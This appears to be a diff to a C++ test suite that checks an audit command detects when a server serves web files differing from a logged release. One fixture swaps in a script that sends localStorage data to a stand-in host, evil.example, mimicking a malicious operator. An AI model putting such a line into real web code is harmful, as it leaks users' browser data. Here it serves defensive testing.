@@ -12,6 +12,7 @@
 #include "crypto/keyfile.h"
 #include "domain/bundle.h"
 #include "domain/org_state.h"
+#include "domain/web_release.h"
 #include "log/cosignature.h"
 #include "log/memory_tree.h"
 #include "server_fixture.h"
@@ -392,6 +393,50 @@ TEST_P(HostileServerTest, ThreeWitnessesCatchAForkShownToOneClient) {
   auto witness_sees_fork = witness_round(0, *cli::ServerUrl::Parse(proxy_->Url()));
   ASSERT_FALSE(witness_sees_fork.ok());
   EXPECT_NE(witness_sees_fork.error().message().find("a fork"), std::string::npos) << witness_sees_fork.error().message();
+}
+
+// Issue 11 item 9: the web front end is logged, and `candor audit --web` checks that what a
+// server serves is a logged release — here, until the operator swaps a script.
+TEST_P(HostileServerTest, ServedWebFilesThatAreNotALoggedReleaseAreCaught) {
+  const fs::path web = dir_ / "web";
+  fs::create_directories(web / "assets");
+  std::ofstream(web / "index.html") << "<!doctype html><link rel=\"icon\" href=\"/favicon.svg\">"
+                                       "<script type=\"module\" src=\"/assets/app-1.js\"></script>";
+  std::ofstream(web / "favicon.svg") << "<svg/>";
+  std::ofstream(web / "assets" / "app-1.js") << "console.log('honest');";
+  Stop();
+  web_dir_ = web.string();
+  Start();
+  const std::string audit = std::string(CANDOR_BINARY) + " audit --server " + url_server_.ToString() + " --web " +
+                            url_server_.ToString() + " --state-dir " + (dir_ / "auditor").string();
+  auto honest = RunShell(audit);
+  ASSERT_EQ(honest.first, 0) << honest.second;
+  EXPECT_NE(honest.second.find("the 3 files"), std::string::npos) << honest.second;
+  // The release is an entry of the log anyone can read.
+  auto release = service_->LatestWebRelease();
+  ASSERT_TRUE(release.ok());
+  EXPECT_NE(release->manifest.find("  /assets/app-1.js\n"), std::string::npos);
+  EXPECT_NE(honest.second.find(crypto::ToHex(domain::WebReleaseId(release->manifest))), std::string::npos);
+
+  // The operator swaps the script (the server reads files at each request).
+  std::ofstream(web / "assets" / "app-1.js") << "fetch('https://evil.example/?k=' + localStorage.key);";
+  auto swapped = RunShell(audit);
+  EXPECT_EQ(swapped.first, 1) << swapped.second;
+  EXPECT_NE(swapped.second.find("/assets/app-1.js is not the file of the logged web release"), std::string::npos)
+      << swapped.second;
+  // Or serves a page that loads a script the release does not hold.
+  std::ofstream(web / "assets" / "app-1.js") << "console.log('honest');";
+  std::ofstream(web / "index.html") << "<!doctype html><script src=\"/assets/extra.js\"></script>";
+  auto extra = RunShell(audit);
+  EXPECT_EQ(extra.first, 1) << extra.second;
+  EXPECT_NE(extra.second.find("is not the file of the logged web release"), std::string::npos) << extra.second;
+  // A restart with new files logs a new release, which then passes.
+  Stop();
+  Start();
+  auto relogged = RunShell(audit);
+  EXPECT_EQ(relogged.first, 1) << relogged.second;  // index.html names a file that is not there
+  EXPECT_NE(relogged.second.find("/assets/extra.js, which the logged release does not hold"), std::string::npos)
+      << relogged.second;
 }
 
 INSTANTIATE_TEST_SUITE_P(Engines, HostileServerTest, ::testing::Values("sqlite", "postgres"),
